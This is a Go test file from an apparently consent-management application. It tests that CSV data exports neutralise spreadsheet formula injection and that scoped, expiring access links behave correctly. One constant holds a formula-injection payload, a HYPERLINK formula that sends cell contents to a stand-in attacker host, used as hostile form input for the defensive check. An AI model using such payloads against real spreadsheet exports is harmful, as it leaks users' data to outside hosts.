// SPDX-License-Identifier: Apache-2.0

package centre_test

import (
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/lecito/lecito/internal/access"
	"github.com/lecito/lecito/internal/choice"
	"github.com/lecito/lecito/internal/sample"
	"github.com/lecito/lecito/internal/testkit"
	"github.com/lecito/lecito/internal/web/link"
	"github.com/lecito/lecito/internal/web/ui/uitest"
	"github.com/lecito/lecito/lawful"
)

// evil is what a stranger might type into a form, for whoever opens the copy.
const evil = `=HYPERLINK("https://evil.example/?"&A1,"Click")`

// leaves lists every value of a copy in JSON.
func leaves(tree any, out *[]string) {
	switch t := tree.(type) {
	case map[string]any:
		for _, v := range t {
			leaves(v, out)
		}
	case []any:
		for _, v := range t {
			leaves(v, out)
		}
	default:
		*out = append(*out, fmt.Sprint(t))
	}
}

func TestACopyAsATable(t *testing.T) {
	testkit.EachDB(t, func(t *testing.T, env testkit.Env) {
		s := open(t, env)
		_, err := s.choices.Take(t.Context(), access.Local(sample.Organisation), choice.Request{
			Subject: giulia(), Source: "footer-form", Choices: []choice.Choice{{Purpose: "events", Channel: "email", Choice: lawful.Refused}},
			Evidence: &lawful.Evidence{Method: "checkbox", Text: evil, UserAgent: "\tone, \"two\"\nthree", URL: "+1+1"},
		})
		if err != nil {
			t.Fatal(err)
		}
		s.seal(t)
		address := s.link(t, s.to(t, sample.Giulia))
		file := browse(t, http.MethodGet, address+"/data.csv", nil, "Accept-Language", "it")
		if got := file.Header.Get("Content-Type") + file.Header.Get("Content-Disposition"); got != `text/csv; charset=utf-8attachment; filename="bottega-data.csv"` {
			t.Errorf("it comes as %s", got)
		}
		body, marked := strings.CutPrefix(file.text, "\ufeff")
		lines, err := csv.NewReader(strings.NewReader(body)).ReadAll()
		if err != nil || !marked {
			t.Fatalf("it is no CSV, or does not say that it is UTF-8: %v", err)
		}
		var cells []string
		for _, line := range lines[1:] {
			for _, cell := range line {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("a spreadsheet would take %q for a formula", cell)
				}
				cells = append(cells, strings.TrimPrefix(cell, "'"))
			}
		}
		whole := strings.Join(cells, "\n")
		var tree map[string]any
		numbers := json.NewDecoder(strings.NewReader(browse(t, http.MethodGet, address+"/data.json", nil).text))
		numbers.UseNumber()
		if err := numbers.Decode(&tree); err != nil {
			t.Fatal(err)
		}
		var values []string
		leaves([]any{tree["identifiers"], tree["facts"]}, &values)
		for _, v := range values {
			if !strings.Contains(whole, strings.ReplaceAll(v, "\r\n", "\n")) {
				t.Errorf("the table lacks %q", v)
			}
		}
		if len(values) < 50 || len(lines) != 1+3+5 {
			t.Errorf("%d values, %d lines", len(values), len(lines))
		}
		for _, want := range []string{"Novità e offerte", "E-mail", "Ha detto di no a tutta la pubblicità su questo canale"} {
			if !slices.Contains(cells, want) {
				t.Errorf("the table does not say %q:\n%s", want, body)
			}
		}
	})
}

func TestALinkOfTheCompanysOwnSite(t *testing.T) {
	testkit.EachDB(t, func(t *testing.T, env testkit.Env) {
		s := open(t, env)
		to := link.To{
			Org: sample.Organisation, Subject: s.to(t, sample.Giulia).Subject, Expires: s.Clock.Now().Add(15 * time.Minute),
			Scope: link.ScopeChoices,
		}
		address := s.link(t, to)
		p := s.see(t, address)
		if got := uitest.All(p.doc, "main"); !strings.Contains(got, "opened from your account") || strings.Contains(got, "Download") {
			t.Errorf("the page says %q", got)
		}
		for _, file := range []string{"json", "csv", "txt"} {
			if got := browse(t, http.MethodGet, address+"/data."+file, nil).StatusCode; got != http.StatusForbidden {
				t.Errorf("data.%s answers %d", file, got)
			}
		}
		// A yes that needs the address to confirm it waits: nothing was sent there.
		p = s.press(t, p, button(t, p, "partner", "email", "yes"))
		if got := s.stand(t, giulia(), "partner", "email"); got.Permits() {
			t.Errorf("a yes from the site is %s", got)
		}
		s.press(t, p, uitest.Find(p.doc, "form.halt", "button")[0])
		if got := s.stand(t, giulia(), "newsletter", "email"); got != lawful.ReasonObjected {
			t.Errorf("after stopping everything it is %s", got)
		}
		s.Clock.Advance(15 * time.Minute)
		if got := browse(t, http.MethodGet, address, nil); got.StatusCode != http.StatusGone || !strings.Contains(got.text, "/p/bottega/code") {
			t.Errorf("when its time is over it answers %d", got.StatusCode)
		}

		to.Scope, to.Expires = "", s.Clock.Now().Add(time.Minute)
		if got := browse(t, http.MethodGet, s.link(t, to)+"/data.json", nil).StatusCode; got != http.StatusOK {
			t.Errorf("a link to all of it answers %d for the data", got)
		}
	})
}
